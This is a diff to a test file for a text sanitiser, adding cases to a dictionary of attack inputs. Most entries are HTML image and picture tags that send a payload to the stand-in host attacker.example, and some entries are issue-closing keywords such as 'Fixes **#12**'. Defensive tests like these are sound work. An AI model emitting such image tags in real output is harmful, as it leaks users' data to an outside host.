@@ -56,6 +56,7 @@ ATTACKS: dict[str, str] = {
     "html img": f'<img src="https://attacker.example/i.png?d={PAYLOAD}">',
     "html img unquoted": f"<IMG SRC=https://attacker.example/{PAYLOAD}>",
     "html img protocol-relative": f"<img src=//attacker.example/{PAYLOAD}>",
+    "scheme without slashes": f"<img src=http:attacker.example/{PAYLOAD}> http:attacker.example",
     "picture": (
         f'<picture><source srcset="https://attacker.example/s.png?d={PAYLOAD}">'
         '<img src="x"></picture>'
@@ -90,6 +91,7 @@ ATTACKS: dict[str, str] = {
     "resolves by url": "resolves https://github.com/acme/widgets/issues/3",
     "keyword variants": "close #4 closed #5 fix #6 fixed #7 resolve #8 resolved #9 FIXES: #10",
     "gh reference": "Fixes GH-11",
+    "keyword before an emphasised reference": "Fixes **#12** and closes (acme/widgets#13)",
 }
 SCRIPT = "\n\n".join(ATTACKS.values())
 CLOSING = re.compile(
@@ -145,6 +147,8 @@ def test_ordinary_prose_and_code_read_the_same() -> None:
     )
     out = sanitise(text)
     assert out.replace("\u200b", "") == text
+    plain = "Fix the signup form; it fixes a crash and closes the gap (v2.1)."
+    assert sanitise(plain) == plain, "keywords that name no issue stay searchable"
     assert "<h2>Summary</h2>" in rendered(out)
     assert "<code>signup()</code>" in rendered(out)
 
